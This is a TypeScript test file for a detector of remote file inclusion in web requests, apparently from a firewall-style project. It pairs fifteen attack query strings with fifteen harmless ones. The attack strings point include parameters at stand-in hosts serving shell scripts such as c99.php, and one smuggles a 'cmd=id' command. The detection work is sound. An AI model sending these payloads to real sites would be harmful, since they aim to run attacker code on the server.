import assert from "node:assert/strict";
import { inspect } from "../request/mod.ts";
import { rfi } from "./detect.ts";

const ATTACKS: readonly string[] = [
  "page=http://evil.example/shell.txt?",
  "file=http://evil.example/x.php?",
  "inc=https://evil.example/a.gif?",
  "template=http://evil.example/cmd.txt",
  "page=http://evil.example/c99.php",
  "include_path=//evil.example/shell.php",
  "mosConfig_absolute_path=http://evil.example/",
  "GLOBALS[path]=http://evil.example/x",
  "_SERVER[DOCUMENT_ROOT]=http://evil.example/x",
  "phpbb_root_path=http://evil.example/x",
  "lang=ftp://evil.example/x.php",
  "x=http://203.0.113.9:8080/a?%26cmd=id",
  "path=http://203.0.113.9/a.php",
  "q=include('http://evil.example/a')",
  "file=http://evil.example/x.txt%00",
];

const INNOCENT: readonly string[] = [
  "url=https://example.com/",
  "page=https://example.com/file.php?id=12",
  "next=https://example.com/?",
  "image=https://cdn.example.com/a.png",
  "q=https://example.com/page?",
  "file=report.txt",
  "page=home",
  "lang=en",
  "q=http://localhost:8000/x.txt",
  "url=https://example.com/robots.txt",
  "website=http://203.0.113.9/",
  "q=see http://example.com/a.txt?",
  "callback=https://example.com/hook.php",
  "src=//cdn.example.com/app.js",
  "path=/var/data",
];

function rulesOf(query: string): string[] {
  const request = inspect({ method: "GET", path: "/", query, headers: [] });
  return rfi.detect(request).filter((finding) => finding.level === 1).map((finding) => finding.rule);
}

Deno.test("rfi detects URLs of scripts where a file is named", () => {
  for (const query of ATTACKS) assert.ok(rulesOf(query).length > 0, query);
  assert.equal(ATTACKS.length, 15);
});

Deno.test("rfi lets ordinary URLs pass", () => {
  for (const query of INNOCENT) assert.deepEqual(rulesOf(query), [], query);
  assert.equal(INNOCENT.length, 15);
});
